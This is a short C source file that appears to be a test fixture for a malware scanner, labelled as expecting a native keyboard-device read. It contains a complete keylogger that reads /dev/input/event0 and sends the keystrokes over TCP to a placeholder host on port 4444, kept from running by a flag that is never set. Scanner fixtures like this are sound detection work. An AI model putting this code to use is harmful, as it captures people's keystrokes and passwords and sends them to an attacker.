/* Key strokes go to another host.
 * expect: native-keyboard-device-read
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <fcntl.h>
#include <sys/types.h>
#include <sys/socket.h>
#include <netinet/in.h>
#include <arpa/inet.h>

static int act(void) {
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(4444)};
    to.sin_addr.s_addr = inet_addr("192.0.2.7");
    int s = socket(AF_INET, SOCK_STREAM, 0);
    if (connect(s, (struct sockaddr *)&to, sizeof to) != 0)
        return 1;
    int k = open("/dev/input/event0", O_RDONLY);
    char room[24];
    while (read(k, room, sizeof room) > 0)
        send(s, room, sizeof room, 0);
    return 0;
}

/* Never true: the code is compiled and cannot run. */
static volatile int never;

int main(void) { return never ? act() : 0; }
